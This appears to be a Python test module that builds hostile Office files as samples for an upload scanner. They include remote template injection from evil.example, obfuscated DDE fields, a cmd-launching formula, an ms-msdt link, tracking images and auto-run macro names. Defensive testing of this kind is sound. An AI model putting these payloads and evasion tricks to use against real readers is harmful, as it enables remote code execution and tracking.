"""Word, Excel and PowerPoint files that hide what they fetch or run from who reads their bytes alone."""

from __future__ import annotations

from backend.uploads.unfit import Why
from tests.uploads.samples import RELATIONS, jpeg, office, office_parts, override, packed, word
from tests.uploads.samples_office import made_from

TYPE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
OUT = b'Target="http://evil.example/x" TargetMode="External"'
XLSX = b'<x xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">%s</x>'
VML = b'<x xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel">%s</x>'
BEGIN, SEPARATE, END = (
    b'<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind for kind in (b"begin", b"separate", b"end")
)


def related(relationships: bytes, name: str = "word/_rels/document.xml.rels", body: bytes = b"") -> bytes:
    """A Word file with these relationships."""
    return office("docx", {name: RELATIONS % relationships, "word/document.xml": word(body)})


def out(kind: bytes) -> bytes:
    """A relationship of this kind, that leads out of the file."""
    return b'<Relationship Id="rId1" Type="%s%s" %s/>' % (TYPE, kind, OUT)


def within(kind: bytes, target: bytes = b"a.bin") -> bytes:
    """A relationship of this kind, that stays within the file."""
    return b'<Relationship Id="rId1" Type="%s%s" Target="%s"/>' % (TYPE, kind, target)


def code(*pieces: bytes) -> bytes:
    """A field of which the code stands in so many runs."""
    return (
        BEGIN
        + b"".join(b"<w:r><w:instrText>%s</w:instrText></w:r>" % piece for piece in pieces)
        + SEPARATE
        + END
    )


def text(body: bytes) -> bytes:
    return office("docx", {"word/document.xml": word(b"<w:p>%s</w:p>" % body)})


def sheet(body: bytes) -> bytes:
    return office("xlsx", {"xl/worksheets/sheet1.xml": XLSX % body})


def drawn(body: bytes) -> bytes:
    return office("xlsx", {"xl/drawings/vmlDrawing1.vml": VML % body})


def linked(body: bytes) -> bytes:
    """A Word file that uses an ordinary link for something else."""
    space = b' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    return related(out(b"hyperlink"), body=body.replace(b"/>", space + b"/>"))


PREFIXED = (
    b'<a:Relationships xmlns:a="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<a:Relationship Id="rId1" Type="%sattachedTemplate" Target="http://evil.example/x.dotm"'
    b' TargetMode="External"/></a:Relationships>' % TYPE
)
IGNORED = b'<x:junk xmlns:x="http://junk.example"><w:r><w:instrText> PAGE </w:instrText></w:r></x:junk>'
OPENED = (
    '<?xml version="1.0" encoding="UTF-16"?>'
    + RELATIONS.decode().split("?>")[1] % out(b"attachedTemplate").decode()
)

ELSEWHERE = (
    b"https://evil.example/x.dotm", b"file://server/share/x.dotm", b"\\\\server\\share\\x.dotm",
    b"file:////server/share/x.dotm", b"file:///\\\\server\\x.dotm", b"file://localhost/C:/x.dotm",
    b"file:///C:\\\\server\\x.dotm", b"file:///C:/../../server/x.dotm", b"file:///C:/a%5C..%5Cb.dotm",
    b"file:///C:/%2e%2e/x.dotm", b"file:///Z:/x.dotm", b"file:///C:x.dotm", b"C:\\x.dotm", b"x.dotm",
    b"file:///C:/x.dotm?http://evil.example", b"file:///C:/x.dotm#a", b"file:///C:/x.exe",
    b"file:///C:/" + b"a" * 500 + b".dotm", b"",
)  # fmt: skip
"""Where a template is not on the reader's disk, or not certainly."""
DISK = b"file:///C:/x.dotm"
AT_DISK = b'Target="%s" TargetMode="External"' % DISK
LINK = b'<Relationship Id="rId2" Type="%shyperlink" %s/>' % (TYPE, OUT)
TEMPLATES = {
    f"{number} sjabloon elders.docx": (made_from(target), Why.REMOTE)
    for number, target in enumerate(ELSEWHERE)
} | {
    "sjabloon uit een link.docx": (
        made_from(DISK, b'<w:attachedTemplate r:id="rId2"/>', LINK), Why.REMOTE
    ),
    "sjabloon met twee namen.docx": (made_from(DISK, more=LINK.replace(b"rId2", b"rId1")), Why.REMOTE),
    "sjabloon met pad.docx": (
        made_from(DISK, b'<w:attachedTemplate r:id="rId1" w:val="//server/x.dotm"/>'), Why.REMOTE
    ),
    "sjabloon als plaatje.docx": (made_from(DISK, b'<v:imagedata r:id="rId1"/>'), Why.REMOTE),
    "sjabloon als link.docx": (made_from(DISK, b'<w:hyperlink r:id="rId1"/>'), Why.REMOTE),
    "sjabloon van het geheel.docx": (
        office("docx", {"_rels/.rels": RELATIONS % out(b"attachedTemplate").replace(OUT, AT_DISK)}),
        Why.REMOTE,
    ),
    "sjabloon erin.docx": (related(within(b"attachedTemplate", b"x.dotm")), Why.REMOTE),
}  # fmt: skip

HOSTILE_OFFICE: dict[str, tuple[bytes, Why]] = {
    **TEMPLATES,
    # The same word, written otherwise.
    "prefix.docx": (office("docx", {"word/_rels/settings.xml.rels": PREFIXED}), Why.REMOTE),
    "teken in adres.docx": (
        related(
            b'<Relationship Id="rId1" Target="http://evil.example/x.dotm?a>b" Type="%sattachedTemplate" '
            b'TargetMode="External"/>' % TYPE
        ),
        Why.REMOTE,
    ),
    "als getal.docx": (
        related(
            b'<Relationship Id="rId1" Type="%sattached&#84;emplate" Target="http://evil.example/x.dotm" '
            b'TargetMode="&#69;xternal"/>' % TYPE
        ),
        Why.REMOTE,
    ),
    "utf16 relatie.docx": (
        office("docx", {"word/_rels/settings.xml.rels": OPENED.encode("utf-16")}),
        Why.REMOTE,
    ),
    "type als getal.xlsx": (
        office("xlsx", types=override("/xl/b.bin", "application/vnd.ms-office.vba&#80;roject")),
        Why.MACROS,
    ),
    "dde als getal.docx": (text(code(b"&#68;DEAUTO c:\\\\x")), Why.REMOTE),
    "dde zonder auto.docx": (text(code(b" DDE excel x y ")), Why.REMOTE),
    "dde in stukken.docx": (text(code(b" DD", b"EAU", b"TO c:\\\\x")), Why.REMOTE),
    "dde in cdata.docx": (text(code(b"DD<!-- x --><![CDATA[EAUTO]]> x")), Why.REMOTE),
    "dde als tekst.docx": (
        text(BEGIN + b"<w:r><w:t>DDEAUTO</w:t><w:instrText> c:\\\\x</w:instrText></w:r>" + SEPARATE + END),
        Why.REMOTE,
    ),
    "dde in dde.docx": (text(BEGIN + code(b" QUOTE 68 68 69 ") + SEPARATE + END), Why.REMOTE),
    "dde in ander veld.docx": (
        text(BEGIN + b"<w:r><w:instrText> IF </w:instrText></w:r>" + code(b"dde x") + SEPARATE + END),
        Why.REMOTE,
    ),
    "dde zonder einde.docx": (text(BEGIN + b"<w:instrText>DDEAUTO x</w:instrText>"), Why.REMOTE),
    "dde met ruis.docx": (
        text(BEGIN + IGNORED + b"<w:r><w:instrText>DDEAUTO x</w:instrText></w:r>" + SEPARATE + END),
        Why.TOO_COMPLEX,
    ),
    "dde in een.docx": (text(b'<w:fldSimple w:instr=" &quot;dde&quot; x "/>'), Why.REMOTE),
    "veld met plaatje.docx": (text(code(b' INCLUDEPICTURE "http://evil.example/1.png" \\d ')), Why.REMOTE),
    "veld met koppeling.docx": (text(code(b"LINK Excel.Sheet.8 \\\\\\\\evil\\\\x.xlsx")), Why.REMOTE),
    "veld met knop.docx": (text(code(b"CONTROL Forms.CommandButton.1 ")), Why.MACROS),
    # What lies outside the file.
    "brok.docx": (
        text(b'<q:altChunk xmlns:q="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'),
        Why.REMOTE,
    ),
    "brok erin.docx": (related(within(b"aFChunk", b"brok.dat")), Why.REMOTE),
    "spion.docx": (related(out(b"image")), Why.REMOTE),
    "film elders.pptx": (
        office("pptx", {"ppt/slides/_rels/slide1.xml.rels": RELATIONS % out(b"video")}),
        Why.REMOTE,
    ),
    "spion zonder wijze.docx": (related(within(b"image", b"http://evil.example/1.png")), Why.REMOTE),
    "spion op server.docx": (related(within(b"image", b"\\\\evil.example\\1.png")), Why.REMOTE),
    "andere wijze.docx": (related(out(b"hyperlink").replace(b'"External"', b'" external "')), Why.REMOTE),
    "link als plaatje.docx": (linked(b'<w:blip r:link="rId1"/>'), Why.REMOTE),
    "link als sjabloon.docx": (linked(b'<w:attached r:id="rId1"/>'), Why.REMOTE),
    "link met script.docx": (
        related(out(b"hyperlink").replace(b"http://evil.example/x", b"java&#115;cript:alert(1)")),
        Why.ACTIVE,
    ),
    "link met opdracht.docx": (
        related(out(b"hyperlink").replace(b"http://evil.example/x", b"ms-msdt:/id")),
        Why.ACTIVE,
    ),
    "gekoppeld.xlsx": (
        office(
            "xlsx", {"xl/externalLinks/_rels/externalLink1.xml.rels": RELATIONS % out(b"externalLinkPath")}
        ),
        Why.REMOTE,
    ),
    "webvraag.xlsx": (
        office(
            "xlsx",
            {
                "xl/connections.xml": XLSX
                % b'<connection id="1"><webPr url="http://evil.example"/></connection>'
            },
        ),
        Why.REMOTE,
    ),
    "databank.xlsx": (
        office(
            "xlsx", {"xl/connections.xml": XLSX % b'<connection id="1"><dbPr connection="x"/></connection>'}
        ),
        Why.REMOTE,
    ),
    "draaitabel elders.xlsx": (sheet(b'<cacheSource type="external" connectionId="1"/>'), Why.REMOTE),
    "ddekoppeling.xlsx": (
        office(
            "xlsx",
            {"xl/externalLinks/a.xml": b'<q:ddeLink xmlns:q="http://x/main" ddeService="cmd"/>'},
        ),
        Why.REMOTE,
    ),
    "formule met opdracht.xlsx": (sheet(b"<c><f>cmd|'/c calc'!A1</f></c>"), Why.REMOTE),
    "formule van elders.xlsx": (
        sheet(b"<c><f>_xlfn.WEB&#83;ERVICE(&quot;http://x&quot;)</f></c>"),
        Why.REMOTE,
    ),
    "formule met plaatje.xlsx": (sheet(b"<c><f>_xlfn.IMAGE (A1)</f></c>"), Why.REMOTE),
    "naam met opdracht.xlsx": (sheet(b"<definedName name='x'>msexcel|'a'!b</definedName>"), Why.REMOTE),
    "oude naam.xlsx": (sheet(b"<definedName name='Auto_Open' xlm='1'>A!A1</definedName>"), Why.MACROS),
    "knop in tekening.xlsx": (drawn(b"<x:FmlaMacro>[0]!x</x:FmlaMacro>"), Why.MACROS),
    "plaatje in tekening.xlsx": (drawn(b'<v:imagedata src="http://evil.example/1.png"/>'), Why.REMOTE),
    "vorm met macro.xlsx": (sheet(b'<sp macro="[0]!Start"/>'), Why.MACROS),
    "start bij klik.pptx": (
        office("pptx", {"ppt/slides/slide1.xml": b'<a:hlinkClick xmlns:a="x" action="ppaction://program"/>'}),
        Why.ACTIVE,
    ),
    "start bij aanraken.pptx": (
        office(
            "pptx",
            {
                "ppt/slides/_rels/slide1.xml.rels": RELATIONS % out(b"hyperlink"),
                "ppt/slides/slide1.xml": b'<hlinkMouseOver xmlns:r="x/relationships" r:id="rId1"/>',
            },
        ),
        Why.REMOTE,
    ),
    "lint.docx": (related(within(b"ui/extensibility", b"lint.xml")), Why.MACROS),
    "knop zonder map.docx": (related(within(b"control", b"knop.xml")), Why.MACROS),
    "object zonder map.docx": (related(within(b"oleObject")), Why.HIDDEN),
    "invoegtoepassing.docx": (related(within(b"webextension", b"w.xml")), Why.REMOTE),
    "samenvoegen.docx": (text(b"<w:mailMerge><w:dataSource/></w:mailMerge>"), Why.REMOTE),
    # Parts that are called otherwise.
    "andere hoofdletters.docx": (
        packed(
            {
                ("[CONTENT_types].XML" if "Types" in name else name): body
                for name, body in office_parts().items()
            }
            | {"word/_RELS/Settings.XML.Rels": RELATIONS % out(b"attachedTemplate")}
        ),
        Why.REMOTE,
    ),
    "relaties in dat.docx": (
        office(
            "docx",
            {"word/relaties.dat": RELATIONS % out(b"attachedTemplate")},
            override("/word/relaties.dat", "application/vnd.openxmlformats-package.relationships+xml"),
        ),
        Why.HIDDEN,
    ),
    "xml in dat.docx": (
        office("docx", {"word/a.dat": word(code(b"DDEAUTO x"))}, override("/word/a.dat", "application/xml")),
        Why.REMOTE,
    ),
    "xml in png.docx": (office("docx", {"word/media/a.png": word(code(b"DDEAUTO x"))}), Why.REMOTE),
    "pagina in png.docx": (office("docx", {"word/media/a.png": b"<html><br></html>"}), Why.HIDDEN),
    "rtf in dat.docx": (office("docx", {"word/brok.dat": b"{\\rtf1 x}"}), Why.HIDDEN),
    "pagina als deel.docx": (
        office("docx", {"word/brok.dat": b"hallo"}, override("/word/brok.dat", "text/html")),
        Why.HIDDEN,
    ),
    "zip in png.docx": (office("docx", {"word/media/a.png": packed({"a": b"b"})}), Why.HIDDEN),
    "naam als getal.docx": (office("docx", {"word/%64ocument.xml": b"<x/>"}), Why.DAMAGED),
    "naam met punt.docx": (office("docx", {"word/./a.xml": b"<x/>"}), Why.DAMAGED),
    "in stukken.docx": (office("docx", {"word/a.xml/[0].piece": b"<x/>"}), Why.DAMAGED),
    "omgekeerd.docx": (office("docx", {"word\\a.xml": b"<x/>"}), Why.DAMAGED),
    "tweemaal getypt.docx": (
        office(
            "docx", types=override("/word/a.xml", "application/xml") + override("/WORD/a.xml", "image/png")
        ),
        Why.DAMAGED,
    ),
    "sjabloon.dotx": (
        office(types=override("/word/b.xml", "application/x.wordprocessingml.template.main+xml")),
        Why.UNKNOWN,
    ),
    "ook odt.docx": (
        packed({"mimetype": b"application/vnd.oasis.opendocument.text"} | office_parts()),
        Why.UNKNOWN,
    ),
    # XML that can be read in two ways, or hardly at all.
    "open.docx": (office("docx", {"word/document.xml": word(b"<w:p>")}), Why.DAMAGED),
    "utf7.docx": (
        office("docx", {"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?><x>+ADw-a/+AD4-</x>'}),
        Why.DAMAGED,
    ),
    "andere codering.docx": (
        office("docx", {"word/document.xml": b'<?xml version="1.0" encoding="windows-1252"?><x>\x80</x>'}),
        Why.DAMAGED,
    ),
    "xml elf.docx": (office("docx", {"word/document.xml": b'<?xml version="1.1"?><x/>'}), Why.DAMAGED),
    "kop zonder inhoud.docx": (
        office("docx", {"word/document.xml": b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'}),
        Why.HIDDEN,
    ),
    "te diep.docx": (office("docx", {"word/document.xml": b"<a>" * 400 + b"</a>" * 400}), Why.TOO_COMPLEX),
    "lange ruimte.docx": (
        office(
            "docx",
            {"word/document.xml": b"<a xmlns:x='" + b"u" * 3_000_000 + b"'>" + b"<x:b/>" * 9 + b"</a>"},
        ),
        Why.TOO_COMPLEX,
    ),
    "te lang.docx": (
        office(
            "docx", {"word/document.xml": b'<a b="' + b"x" * 9_000_000 + b'"/>', "word/media/a.jpg": jpeg()}
        ),
        Why.TOO_COMPLEX,
    ),
    "plaatje met script.docx": (
        office(
            "docx", {"word/media/a.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'}
        ),
        Why.ACTIVE,
    ),
}
"""By name; the names say what they pretend to be."""
